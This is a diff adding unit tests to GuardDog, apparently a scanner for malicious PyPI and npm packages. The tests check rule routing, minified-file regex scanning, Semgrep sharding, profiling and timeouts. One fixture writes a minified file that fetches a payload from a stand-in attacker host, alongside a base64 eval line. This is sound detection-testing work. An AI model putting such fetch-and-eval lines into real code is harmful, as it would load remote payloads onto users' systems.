@@ -1,3 +1,10 @@
+import os
+import sys
+import time
+import unittest.mock
+
+import pytest
+
 from guarddog import ecosystems
 from guarddog.analyzer.analyzer import Analyzer
 
@@ -10,3 +17,136 @@ def test_source_code_analyzer_ran_with_no_rules():
 
     result = analyzer.analyze_sourcecode("/tmp", set())
     assert len(result['errors']) == 0
+
+
+def test_source_code_analyzer_runs_semgrep_on_rule_targets(tmp_path):
+    (tmp_path / "lib").mkdir()
+    (tmp_path / "lib" / "module.py").write_text("import os\n")
+    (tmp_path / "lib" / "index.js").write_text("module.exports = {}\n")
+    (tmp_path / "tests").mkdir()
+    (tmp_path / "tests" / "test_module.py").write_text("import os\n")
+    (tmp_path / "setup.py").write_text("from setuptools import setup\n")
+
+    analyzer = Analyzer(ecosystem=ecosystems.ECOSYSTEM.PYPI)
+    invocations = []
+
+    def mock_invoke_semgrep(targets, rules, deadline=None):
+        invocations.append((
+            sorted(map(lambda target: os.path.relpath(target, tmp_path), targets)),
+            sorted(map(lambda rule: os.path.basename(rule), rules))
+        ))
+        return {"results": []}
+
+    with unittest.mock.patch.object(analyzer, "_invoke_semgrep", mock_invoke_semgrep):
+        result = analyzer.analyze_sourcecode(str(tmp_path), {"code-execution", "exec-base64", "obfuscation",
+                                                             "npm-exec-base64", "shady-links"})
+
+    assert len(result["errors"]) == 0
+    assert sorted(invocations) == [
+        (["lib/index.js"], ["npm-exec-base64.yml"]),
+        (["lib/index.js", "lib/module.py", "setup.py"], ["shady-links.yml"]),
+        (["lib/module.py", "setup.py"], ["exec-base64.yml", "obfuscation.yml"]),
+        (["setup.py"], ["code-execution.yml"]),
+    ]
+
+
+def test_source_code_analyzer_skips_rules_without_targets(tmp_path):
+    (tmp_path / "README.md").write_text("# README\n")
+
+    analyzer = Analyzer(ecosystem=ecosystems.ECOSYSTEM.PYPI)
+    with unittest.mock.patch.object(analyzer, "_invoke_semgrep") as mock_invoke_semgrep:
+        result = analyzer.analyze_sourcecode(str(tmp_path), {"exec-base64", "npm-exec-base64"})
+        mock_invoke_semgrep.assert_not_called()
+
+    assert result["results"] == {"exec-base64": {}, "npm-exec-base64": {}}
+    assert result["issues"] == 0
+
+
+def test_source_code_analyzer_searches_minified_files_with_regex_rules(tmp_path):
+    (tmp_path / "dist.js").write_text("var a=1;" * 200 + 'fetch("https://evil.xyz/payload");' + "var b=2;" * 200 + "\n")
+    (tmp_path / "index.min.js").write_text('eval(atob("ZXZpbA=="));\n' * 500)
+
+    analyzer = Analyzer(ecosystem=ecosystems.ECOSYSTEM.NPM)
+    with unittest.mock.patch.object(analyzer, "_invoke_semgrep") as mock_invoke_semgrep:
+        result = analyzer.analyze_sourcecode(str(tmp_path), {"shady-links", "npm-exec-base64"})
+        mock_invoke_semgrep.assert_not_called()
+
+    assert result["targets"]["minified_files"] == 2
+    # npm-exec-base64 needs Semgrep, only shady-links can search minified files
+    assert result["issues"] == 1
+    assert result["results"]["npm-exec-base64"] == {}
+    assert len(result["results"]["shady-links"]) == 1
+    assert result["results"]["shady-links"][0]["location"] == "dist.js:1"
+
+
+def test_source_code_analyzer_shards_large_packages(tmp_path):
+    for i in range(8):
+        (tmp_path / f"module_{i}.py").write_text("import os\n" * (i + 1))
+
+    analyzer = Analyzer(ecosystem=ecosystems.ECOSYSTEM.PYPI)
+    invocations = []
+
+    def mock_invoke_semgrep(targets, rules, deadline=None):
+        invocations.append(sorted(map(lambda target: os.path.relpath(target, tmp_path), targets)))
+        if "module_0.py" in invocations[-1]:
+            raise Exception("semgrep crashed")
+        return {"results": [{
+            "check_id": "exec-base64",
+            "path": target,
+            "start": {"line": 1},
+            "extra": {"lines": "import os", "message": "message"},
+        } for target in targets]}
+
+    with unittest.mock.patch("guarddog.analyzer.analyzer.get_parallelism", return_value=4), \
+            unittest.mock.patch("guarddog.analyzer.analyzer.SEMGREP_MIN_SHARD_SIZE", 1), \
+            unittest.mock.patch.object(analyzer, "_invoke_semgrep", mock_invoke_semgrep):
+        result = analyzer.analyze_sourcecode(str(tmp_path), {"exec-base64"})
+
+    assert len(invocations) == 4
+    assert sorted(file for shard in invocations for file in shard) == [f"module_{i}.py" for i in range(8)]
+    # Findings of all successful shards are merged, a failed shard is reported as an error of its rules
+    assert len(result["results"]["exec-base64"]) == 6
+    assert "semgrep crashed" in result["errors"]["exec-base64"]
+
+
+def test_source_code_analyzer_profiles_rules_and_files(tmp_path):
+    (tmp_path / "module.py").write_text("import os\n")
+    (tmp_path / "setup.py").write_text("from setuptools import setup\nsetup(cmdclass={'install': Install})\n")
+
+    analyzer = Analyzer(ecosystem=ecosystems.ECOSYSTEM.PYPI, profile=True)
+
+    def mock_invoke_semgrep(targets, rules, deadline=None):
+        return {"results": [], "time": {
+            "rules": ["guarddog.analyzer.sourcecode.exec-base64"],
+            "targets": [{
+                "path": os.path.join(tmp_path, os.path.basename(target)),
+                "parse_times": [0.5],
+                "match_times": [0.25],
+                "run_time": 1.0 if target.endswith("module.py") else 2.0,
+            } for target in targets],
+        }}
+
+    with unittest.mock.patch.object(analyzer, "_invoke_semgrep", mock_invoke_semgrep):
+        result = analyzer.analyze_sourcecode(str(tmp_path), {"exec-base64", "cmd-overwrite"})
+
+    timings = result["timings"]
+    assert timings["rules"]["exec-base64"] == {"parse_time": 1.0, "match_time": 0.5}
+    assert timings["rules"]["cmd-overwrite"]["parse_time"] == 0
+    assert [file["path"] for file in timings["slowest_files"]] == ["setup.py", "module.py"]
+    assert timings["slowest_files"][1]["time"] == 1.0
+
+    analyzer.profile = False
+    with unittest.mock.patch.object(analyzer, "_invoke_semgrep", mock_invoke_semgrep):
+        assert "timings" not in analyzer.analyze_sourcecode(str(tmp_path), {"exec-base64"})
+
+
+def test_semgrep_is_killed_at_the_deadline():
+    analyzer = Analyzer(ecosystem=ecosystems.ECOSYSTEM.PYPI)
+    analyzer.sourcecode_timeout = 0.1
+    command = [sys.executable, "-c", "import time; time.sleep(10)"]
+
+    with unittest.mock.patch.object(analyzer, "_get_semgrep_command", return_value=command):
+        start = time.monotonic()
+        with pytest.raises(Exception, match="timed out after 0.1 seconds"):
+            analyzer._invoke_semgrep([], [], deadline=time.monotonic() + analyzer.sourcecode_timeout)
+    assert time.monotonic() - start < 5